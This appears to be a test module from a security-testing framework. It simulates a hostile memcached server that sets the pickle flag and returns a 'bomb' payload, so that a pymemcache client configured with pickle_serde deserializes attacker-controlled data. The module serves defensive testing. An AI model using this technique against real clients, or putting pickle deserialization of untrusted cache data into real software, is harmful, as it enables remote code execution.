"""D3 on pymemcache: the server sets the flags that make the client unpickle a value."""

from backwatch.attack.protocols.memcached import Memcached
from backwatch.attack.protocols.pickles import bomb
from backwatch.attack.techniques.memcached import CachesBasket
from backwatch.attack.techniques.pickle import ReadsPickles

FLAG_PICKLE = b"1"


class _PickleMemcached(Memcached):
    def value(self, key: bytes, stored: tuple[bytes, bytes] | None) -> tuple[bytes, bytes] | None:
        return (FLAG_PICKLE, bomb()) if self.hostile else super().value(key, stored)


class MemcachedPickle(ReadsPickles, CachesBasket):
    """The app stores only text, with a serde that accepts more."""

    reference = "https://github.com/pinterest/pymemcache/blob/master/pymemcache/serde.py; ATT&CK T1059.006"
    option = "serde=pickle_serde"
    server = _PickleMemcached

    def work(self) -> object:
        """Store a basket, and read it."""
        from pymemcache.serde import pickle_serde

        with self.open_client(serde=pickle_serde) as client:
            client.set("basket:7", "two apples", expire=60)
            return client.get("basket:7")
